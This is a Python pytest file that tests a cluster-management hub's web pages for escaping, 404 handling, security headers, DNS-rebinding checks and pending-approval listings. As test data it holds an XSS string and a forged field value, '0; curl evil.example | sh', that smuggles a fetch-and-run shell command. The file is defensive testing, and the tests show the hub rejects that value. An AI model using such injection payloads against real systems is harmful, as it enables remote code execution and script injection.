"""The hub's web page without a browser: what each page says, escaping, 404s, headers (a real hub on loopback)."""

from __future__ import annotations

import hashlib
import os
import re
import signal
import socket
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest

from hub.store import SqliteStore
from hub.v1 import hub_pb2 as pb
from hub.web.server import url
from tests.hub_helpers import CLUSTER, Hub, envelope, running_hub
from tests.test_hub_service import PVE_HUB, ROOT, _free_port, pve_hub

EVIL = "<script>alert(1)</script>"
BLOCKS = r"</?(?:td|th|tr|div|p|li|h\d|dt|dd|pre|table|thead|tbody|nav|header|main|title|br)\b[^>]*>"  # cell edges


@pytest.fixture(name="hub")
def _hub(tmp_path: Path) -> Iterator[Hub]:
    with running_hub(SqliteStore.in_dir(tmp_path / "hub"), web_listen="127.0.0.1:0") as hub:
        yield hub


def get(hub: Hub, path: str, method: str = "GET") -> tuple[int, dict[str, str], str]:
    """Status, headers and body of ``path`` on the hub's web listener."""
    endpoint = hub.running.web_endpoint
    assert endpoint is not None
    request = urllib.request.Request(f"http://127.0.0.1:{endpoint.port}{path}", method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, dict(response.headers), response.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read().decode()


def apply(hub: Hub, text: str, message: str) -> int:
    """``text`` as the next version, with ``message``; the version."""
    latest = hub.store.get(CLUSTER)
    expected = latest.version if latest else 0
    previous = hub.stub.GetDocument(pb.GetDocumentRequest(cluster=CLUSTER)).document.payload_sha256 if latest else ""
    answer = hub.stub.Apply(pb.ApplyRequest(cluster=CLUSTER, expected_version=expected,
                                            envelope=envelope(text, expected + 1, previous, message=message)))
    return int(answer.version)


def text_of(html: str) -> str:
    """What a person reads: tags dropped, entities decoded, whitespace folded."""
    import html as entities  # noqa: PLC0415

    blocks = re.sub(BLOCKS, " ", html)
    return " ".join(entities.unescape(re.sub(r"<[^>]+>", "", blocks)).split())


def test_history_shows_each_versions_desired_guests_against_the_one_before(hub: Hub) -> None:
    """v2 against v1: a guest added, a key changed, a key removed; attacker text from the document stays text."""
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n    config: {memory: 1024, tags: web}\n", "first")
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n    config: {memory: 2048}\n"
               f"  - vmid: 101\n    description: '{EVIL}'\n", f"more memory {EVIL}")
    status, _, history = get(hub, f"/clusters/{CLUSTER}/history")
    assert status == 200
    assert "v2" in text_of(history) and f"more memory {EVIL}" in text_of(history)
    status, _, page = get(hub, f"/clusters/{CLUSTER}/history/2")
    seen = text_of(page)
    assert status == 200
    assert "100 changed memory 1024 2048" in seen
    assert "100 changed tags web <absent>" in seen
    assert f"101 added description <absent> {EVIL}" in seen
    assert "<script" not in page  # every < of the document is escaped
    assert "added state" not in seen  # 101 declares no state: nothing invented
    _, _, first = get(hub, f"/clusters/{CLUSTER}/history/1")
    assert "100 added memory <absent> 1024" in text_of(first)


def test_overview_shows_each_nodes_version_and_ack_or_nack_with_the_reason(hub: Hub) -> None:
    """ACK and NACK per node, the reason escaped, a node behind the latest version marked."""
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n", "v1")
    apply(hub, "guests:\n  - vmid: 100\n    state: stopped\n", "v2")
    hub.stub.Report(pb.ReportRequest(cluster=CLUSTER, node="pve1@lab", version=2, ok=True))
    hub.stub.Report(pb.ReportRequest(cluster=CLUSTER, node="pve2@lab", version=1, ok=True))
    hub.stub.Report(pb.ReportRequest(cluster=CLUSTER, node="pve2@lab", version=2, ok=False, reason="UNKNOWN_KEY",
                                     detail=EVIL))
    status, _, page = get(hub, f"/clusters/{CLUSTER}")
    seen = text_of(page)
    assert status == 200
    assert "pve1@lab v2 ACK v2" in seen
    assert f"pve2@lab v1 (behind) NACK v2: UNKNOWN_KEY: {EVIL}" in seen
    assert "<script" not in page
    assert f'href="{url("clusters", CLUSTER, "nodes", "pve2@lab")}"' in page
    assert 'href="/clusters/lab/nodes/pve2%40lab"' in page  # each segment quoted
    _, _, index = get(hub, "/")
    assert f'href="/clusters/{CLUSTER}"' in index
    _, _, node = get(hub, url("clusters", CLUSTER, "nodes", "pve2@lab"))
    assert "NACK v2: UNKNOWN_KEY" in text_of(node)


NOT_THERE = ("/clusters/nosuch", "/clusters/lab/nodes/pve9@lab", "/clusters/lab/nodes/pve1@lab/guests/999",
             "/clusters/lab/nodes/pve1@lab/guests/abc", "/clusters/lab/history/7", "/clusters/lab/history/x",
             "/clusters/lab/nope", "/nope", "/clusters/%3Cscript%3E",
             "/clusters/lab/nodes/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/clusters/lab/nodes/%ff")


def test_what_is_not_there_is_404_and_the_name_stays_text(hub: Hub) -> None:
    """Unknown clusters, nodes, guests and versions are 404, and a name from the URL is shown escaped."""
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n", "v1")
    hub.stub.Report(pb.ReportRequest(cluster=CLUSTER, node="pve1@lab", version=1, ok=True))
    for path in NOT_THERE:
        status, headers, page = get(hub, path)
        assert status == 404, path
        assert headers["Content-Type"] == "text/html; charset=utf-8"
        assert "<script" not in page
    assert "no node &#39;&lt;script&gt;alert(1)&lt;/script&gt;&#39; in cluster lab" in get(hub, NOT_THERE[-2])[2]


def test_every_answer_carries_a_strict_policy_and_the_page_is_read_only(hub: Hub) -> None:
    """CSP without script, nosniff, no framing; HEAD answers headers; POST is refused; the page refreshes itself."""
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n", "v1")
    for path in ("/", f"/clusters/{CLUSTER}", "/nosuch", "/style.css"):
        status, headers, body = get(hub, path)
        assert headers["Content-Security-Policy"].startswith("default-src 'none'"), path
        assert "script-src" not in headers["Content-Security-Policy"]  # default-src 'none' forbids every script
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["X-Frame-Options"] == "DENY"
        assert "<script" not in body
    _, headers, css = get(hub, "/style.css")
    assert headers["Content-Type"] == "text/css; charset=utf-8" and "body" in css
    _, _, page = get(hub, f"/clusters/{CLUSTER}")
    assert '<meta http-equiv="refresh" content="10">' in page
    status, _, body = get(hub, f"/clusters/{CLUSTER}", method="HEAD")
    assert (status, body) == (200, "")
    assert get(hub, f"/clusters/{CLUSTER}", method="POST")[0] == 405
    endpoint = hub.running.web_endpoint
    assert endpoint is not None
    for host, status in (("evil.example", 421), (f"evil.example:{endpoint.port}", 421),
                         (f"localhost:{endpoint.port}", 200)):  # a DNS-rebinding page sends its own name
        request = urllib.request.Request(f"http://127.0.0.1:{endpoint.port}/", headers={"Host": host})
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                assert response.status == status
        except urllib.error.HTTPError as exc:
            assert exc.code == status, host


def report(hub: Hub, node: str, guests: list[pb.GuestState], *, interval: float = 3600, seq: int = 1,
           ops: tuple[pb.OpReport, ...] = ()) -> None:
    """``node``'s full StateReport, as its executor sends it after a tick."""
    answer = hub.stub.ReportState(pb.StateReport(cluster=CLUSTER, node=node, audience=node, session="s1", seq=seq,
                                                 full=True, guests=guests, interval_seconds=interval, ops=ops,
                                                 held_version=1, tick_outcome="ok"))
    assert answer.recorded_seq == seq


def waiting(node: str, vmid: int, kind: str) -> pb.PendingApproval:
    """An approval ``node`` reports waiting on ``vmid``."""
    descriptor = f'{{"vmid": {vmid}, "kind": "{kind}"}}'.encode()
    return pb.PendingApproval(node=node, vmid=vmid, op_kind=kind, action_class="DESTRUCTIVE", rule="r",
                              reasons=[EVIL], descriptor=descriptor,
                              descriptor_sha256=hashlib.sha256(descriptor).hexdigest(), audience=node)


def test_node_and_guest_pages_show_declared_against_actual_with_the_reason(hub: Hub) -> None:
    """Each guest's sync state and differing keys (a delete is <absent>), the refusal's reason; attacker text is
    text; an unknown guest of a known node is 404."""
    apply(hub, "guests:\n  - vmid: 100\n    config: {memory: 2048, tags: web}\n  - vmid: 101\n    state: running\n",
          "v1")
    report(hub, "pve1@lab", [
        pb.GuestState(vmid=100, name=EVIL, type="qemu", state=pb.SYNC_STATE_DRIFTED,
                      diffs=[pb.KeyDiff(key="memory", declared="2048", actual="4096"),
                             pb.KeyDiff(key="description", declared_absent=True, actual=EVIL)]),
        pb.GuestState(vmid=101, name="db", type="lxc", state=pb.SYNC_STATE_REFUSED, reason="OUT_OF_SCOPE",
                      detail=f"pool {EVIL} is not managed", declared_run_state="running", actual_run_state="stopped")],
           ops=(pb.OpReport(op_id="a" * 32, vmid=100, op_kind="config.set", fate="ran", outcome="failed",
                            detail=f"PVE said {EVIL}", at_unix_ms=int(time.time() * 1000), signers=["alice"]),
                pb.OpReport(op_id="b" * 32, vmid=101, op_kind="guest.stop", fate="waiting", at_unix_ms=1)))
    status, _, node = get(hub, url("clusters", CLUSTER, "nodes", "pve1@lab"))
    seen = text_of(node)
    assert status == 200 and "<script" not in node
    assert f"100 {EVIL} qemu drifted memory: 2048 → 4096 description: <absent> → {EVIL}" in seen
    assert f"101 db lxc refused OUT_OF_SCOPE: pool {EVIL} is not managed" in seen
    status, _, guest = get(hub, url("clusters", CLUSTER, "nodes", "pve1@lab", "guests", 100))
    seen = text_of(guest)
    assert status == 200 and "<script" not in guest
    assert "memory 2048 4096 differs" in seen and f"description <absent> {EVIL} differs" in seen
    assert "tags web web same" in seen  # declared, not reported as differing: as declared
    _, _, refused = get(hub, url("clusters", CLUSTER, "nodes", "pve1@lab", "guests", 101))
    assert "run state running stopped" in text_of(refused)
    assert f"reason OUT_OF_SCOPE: pool {EVIL} is not managed" in text_of(refused)
    assert get(hub, url("clusters", CLUSTER, "nodes", "pve1@lab", "guests", 102))[0] == 404
    for path in (url("clusters", CLUSTER, "ops"), url("clusters", CLUSTER)):
        ops = text_of(get(hub, path)[2])
        assert f"100 config.set ran failed PVE said {EVIL} aaaaaaaaaaaa alice" in ops
        assert ops.index("config.set") < ops.index("101 guest.stop waiting")  # newest first
    assert "101 guest.stop waiting" not in seen  # guest 100's page shows guest 100's ops only
    assert f"100 config.set ran failed PVE said {EVIL}" in seen


def test_pending_approvals_each_show_the_command_that_signs_it_on_its_node(hub: Hub) -> None:
    """Numbered as ``pve-executor pending`` numbers them on each node: by vmid, then op kind."""
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n", "v1")
    report(hub, "pve1@lab", [
        pb.GuestState(vmid=300, name="b", state=pb.SYNC_STATE_PENDING_APPROVAL,
                      pending=[waiting("pve1@lab", 300, "x")]),
        pb.GuestState(vmid=200, name="a", state=pb.SYNC_STATE_PENDING_APPROVAL,
                      pending=[waiting("pve1@lab", 200, "z"), waiting("pve1@lab", 200, "config.disk_detach")])])
    report(hub, "pve2@lab", [pb.GuestState(vmid=400, name="c", state=pb.SYNC_STATE_PENDING_APPROVAL,
                                           pending=[waiting("pve2@lab", 400, "y")])])
    status, _, page = get(hub, url("clusters", CLUSTER, "pending"))
    seen = text_of(page)
    assert status == 200 and "<script" not in page
    order = [(m.group(1), m.group(2)) for m in re.finditer(r"(pve\d@lab) · guest \d+ · (\S+) DESTRUCTIVE", seen)]
    assert order == [("pve1@lab", "config.disk_detach"), ("pve1@lab", "z"), ("pve1@lab", "x"), ("pve2@lab", "y")]
    commands = re.findall(r"Or sign it on (\S+): pve-executor op sign --pending (\d) --key KEYFILE --role ROLE", seen)
    assert commands == [("pve1@lab", "1"), ("pve1@lab", "2"), ("pve1@lab", "3"), ("pve2@lab", "1")]
    short = hashlib.sha256(b'{"vmid": 400, "kind": "y"}').hexdigest()[:12]
    assert (f"send it through the hub: pve-hub pending --cluster lab --descriptor {short} --json > pending-{short}.json"
            f" && pve-executor op sign --key KEYFILE --role ROLE --out op-{short}.json pending-{short}.json && "
            f"pve-hub submit op-{short}.json --cluster lab --wait") in seen
    assert "4 pending approvals" in text_of(get(hub, url("clusters", CLUSTER))[2])
    forged = waiting("pve2@lab", 400, "y")
    forged.descriptor_sha256, forged.node = "0; curl evil.example | sh", "pve1@lab"  # a node's lies
    with pytest.raises(grpc.RpcError) as refused:  # never stored, so never inside a command
        report(hub, "pve2@lab", [pb.GuestState(vmid=400, name="c", state=pb.SYNC_STATE_PENDING_APPROVAL,
                                               pending=[forged])], seq=2)
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "guests[0].pending[0].descriptor_sha256" in str(refused.value.details())
    seen = text_of(get(hub, url("clusters", CLUSTER, "pending"))[2])
    assert "curl" not in seen
    assert "pve2@lab · guest 400 · y DESTRUCTIVE" in seen  # the node the hub heard it from, whatever it claims


def test_a_stale_node_stands_out(hub: Hub) -> None:
    """A node silent for two report intervals is marked STALE on the overview and its page."""
    apply(hub, "guests:\n  - vmid: 100\n    state: running\n", "v1")
    report(hub, "pve1@lab", [pb.GuestState(vmid=100, name="a", state=pb.SYNC_STATE_IN_SYNC)], interval=0.1)
    report(hub, "pve2@lab", [pb.GuestState(vmid=200, name="b", state=pb.SYNC_STATE_IN_SYNC)])
    time.sleep(0.3)
    _, _, page = get(hub, url("clusters", CLUSTER))
    assert re.search(r'<tr class="stale">\s*<td><a href="/clusters/lab/nodes/pve1%40lab">pve1@lab</a> '
                     r'<strong class="stale-mark">STALE</strong>', page)
    assert "pve2@lab</a> <strong" not in page
    assert "STALE" in text_of(get(hub, url("clusters", CLUSTER, "nodes", "pve1@lab"))[2])


def test_a_cluster_known_only_from_state_reports_is_listed(hub: Hub) -> None:
    """Nodes that report before any version is applied still show: the index lists their cluster."""
    skipped = pb.GuestState(vmid=7, state=pb.SYNC_STATE_SKIPPED)
    hub.stub.ReportState(pb.StateReport(cluster="edge", node="e1@edge", session="s", seq=1, full=True,
                                        interval_seconds=60, guests=[skipped]))
    assert 'href="/clusters/edge"' in get(hub, "/")[2]
    assert "e1@edge v0 none yet skipped 1" in text_of(get(hub, "/clusters/edge")[2])


def test_pve_hub_serve_web_listen(tmp_path: Path) -> None:
    """``pve-hub serve --web-listen``: a bad address is exit 2 naming the setting, a taken port exit 1 in one line;
    a free one serves the page until SIGTERM."""
    done = pve_hub("serve", "--listen", "127.0.0.1:0", "--web-listen", "nowhere", "--state-dir", str(tmp_path / "s"))
    assert done.returncode == 2 and "web_listen" in done.stderr and "Traceback" not in done.stderr
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        done = pve_hub("serve", "--listen", "127.0.0.1:0", "--web-listen", f"127.0.0.1:{taken.getsockname()[1]}",
                       "--state-dir", str(tmp_path / "s"))
    assert done.returncode == 1 and "cannot listen on" in done.stderr and "Traceback" not in done.stderr
    port = _free_port()
    child = subprocess.Popen([*PVE_HUB, "serve", "--listen", "127.0.0.1:0", "--web-listen", f"127.0.0.1:{port}",
                              "--state-dir", str(tmp_path / "s"), "--log-format", "json"], cwd=ROOT,
                             env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as response:
                    assert response.status == 200 and b"This hub holds no cluster yet" in response.read()
                    break
            except OSError:
                assert time.monotonic() < deadline, "the web page never answered"
                time.sleep(0.1)
    finally:
        child.send_signal(signal.SIGTERM)
        assert child.wait(30) == 0
